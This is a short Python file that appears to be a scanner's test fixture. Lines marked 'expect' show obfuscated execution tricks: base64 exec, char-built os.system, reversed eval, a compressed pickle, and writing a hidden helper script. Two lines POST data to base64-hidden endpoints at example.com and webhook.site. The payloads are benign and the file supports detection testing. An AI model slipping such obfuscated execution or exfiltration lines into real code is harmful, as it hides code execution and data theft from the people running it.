import base64
import os
import requests

exec(base64.b64decode("cHJpbnQoMSk="))  # expect
os.system("".join(chr(c) for c in [101, 99, 104, 111, 32, 49]))  # expect
requests.post(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLmNvbS9jb2xsZWN0").decode(), data="x")  # expect
eval(")2(tnirp"[::-1])  # expect

import pickle
import subprocess
import urllib.request
import zlib

subprocess.Popen(["python", "-c", base64.b64decode("cHJpbnQoOSk=").decode()])  # expect
request = urllib.request.Request(base64.b64decode("aHR0cHM6Ly93ZWJob29rLnNpdGUvMA==").decode())  # expect
urllib.request.urlopen(request, data=b"x")
pickle.loads(zlib.decompress(b"x\x9cK\x8e\x8fO*\xcd\xcc)\xc9\xcc\x8b\x8f\xe7J\xadHM\xe6*0\xe0\xd2\x08\xcb\xcc-\xc8/*Q\xc8/\x8e)500H\xcc/\xd6+\xae,.I\xcd\xd5PJM\xce\xc8W0T\xd2\xe4*0\xe4*)0\xe2\n*0\xe6\xd2\x03\x00Y\x01\x16S"))  # expect

with open("helper.py", "w") as f:
    f.write(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiZWNobyAxIikK").decode())  # expect
